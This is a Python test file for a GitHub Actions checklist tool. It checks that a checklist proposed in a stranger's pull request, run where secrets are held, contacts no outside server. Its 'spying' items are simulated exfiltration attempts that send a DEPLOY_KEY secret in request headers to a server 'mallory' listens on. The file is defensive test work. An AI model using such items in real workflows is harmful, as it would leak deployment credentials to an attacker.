"""A checklist that a pull request proposes asks nobody anything where we hold secrets its author may not have."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.second_stage import ON_BASE, POLICY, Stage
from tests.command import checklist
from tests.fakes import events
from tests.fakes.github import BASE, HEAD, GitHub
from tests.fakes.servers import Server, respond, serving
from tests.on_github import Workflow

SECRET = "hunter2-hunter2"  # noqa: S105 - a made-up one
ELSEWHERE = ("workflow_run", "issue_comment", "pull_request_target")
"""Events whose run holds secrets, whoever opened the pull request."""


@pytest.fixture
def listener() -> Iterator[Server]:
    """A server that mallory listens on."""
    with serving(respond(body=b'{"ok": true}')) as server:
        yield server


def spying(server: Server) -> dict[str, str]:
    """Items that ask, by name."""
    asks = f"{{urls: '{server.url()}', headers: {{Authorization: {{env: DEPLOY_KEY}}}}}}"
    metrics = (
        f"{{urls: '{server.url()}', facts: {{ok: {{path: ok, kind: word}}}}, headers: {{X: {{env: DEPLOY_KEY}}}}}}"
    )
    return {
        "http": f"spy | http | {asks} | status == 200",
        "metrics": f"spy | metrics | {metrics} | ok == true",
        "tcp": f"spy | tcp | {{targets: '127.0.0.1:{server.port}'}} | accepts",
        "issues": "spy | issues | {} | open == 0",
        "approvals": "spy | approvals | {} | approvals >= 0",
        "alerts": "spy | dependabot | {} | critical == 0",
    }


KINDS = ("http", "metrics", "tcp", "issues", "approvals", "alerts")


def run(stage: Stage, event: str, base: str | None, head: str) -> tuple[int, str]:
    """One run on a fork's pull request that proposes the checklist `head`; its exit code and the comment."""
    stage.client.commit({POLICY: base}, sha=BASE, on="main")
    stage.client.commit({POLICY: head, "a.py": "1"}, BASE, sha=HEAD)
    stage.workflow.more = {"DEPLOY_KEY": SECRET}
    result = stage.workflow.run(event, {"allow_private": "true"})
    assert SECRET not in result.said.replace(f"::add-mask::{SECRET}", "")
    return result.code, stage.comment()


def asked_github(client: GitHub) -> list[str]:
    """What only the proposed items would ask."""
    return [line for line in client.log if any(word in line for word in ("/issues?", "/reviews", "/dependabot"))]


@pytest.mark.parametrize("event", ELSEWHERE)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("base", [ON_BASE, None], ids=["a changed checklist", "a first checklist"])
def test_what_a_stranger_proposes_asks_nobody(
    stage: Stage, listener: Server, event: str, kind: str, base: str | None
) -> None:
    _, said = run(stage, event, base, checklist(spying(listener)[kind]))

    assert listener.requests == []
    assert asked_github(stage.client) == []
    assert "spy" in said


def test_once_merged_it_asks(stage: Stage, listener: Server) -> None:
    code, _ = run(stage, "workflow_run", checklist(spying(listener)["http"]), checklist(spying(listener)["http"]))

    assert code == 0
    assert [SECRET in request for request in listener.requests] == [True]


def test_an_item_that_the_base_asks_for_is_not_asked_with_another_address(stage: Stage, listener: Server) -> None:
    with serving(respond(body=b"{}")) as ours:
        _, said = run(stage, "workflow_run", checklist(spying(ours)["http"]), checklist(spying(listener)["http"]))

        assert len(ours.requests) == 1
    assert listener.requests == []
    assert "spy from pass to unknown" in said


def test_an_address_with_a_mark_of_the_secret_shows_it_nowhere(stage: Stage) -> None:
    echo = f'{{"said": "{SECRET}"}}'.encode()
    with serving(respond(body=echo)) as server:
        asks = f"{{urls: '{server.url()}', headers: {{X: {{env: DEPLOY_KEY}}}}, facts: {{said: said}}}}"
        policy = checklist(f"spy | http | {asks} | said == fine")
        code, said = run(stage, "workflow_run", policy, policy)

    assert code == 1
    assert SECRET not in said
    assert "said is" in said.replace("`", "")


def test_the_own_pull_request_is_previewed_with_what_it_asks(tmp_path: Path, client: GitHub, listener: Server) -> None:
    workflow = Workflow(tmp_path, client)
    workflow.pull_request({POLICY: ON_BASE}, {POLICY: checklist(spying(listener)["http"]), "a.py": "1"})
    workflow.more = {"DEPLOY_KEY": SECRET}

    workflow.run("pull_request", {"allow_private": "true"}, events.pull_request(7, client=client))

    assert len(listener.requests) == 1


def test_the_saved_result_of_a_stranger_asks_nobody(stage: Stage, saved: Any, listener: Server) -> None:
    for item in saved["items"]:
        item["with"] = {"urls": [listener.url()]}

    stage.judge(saved)

    assert listener.requests == []
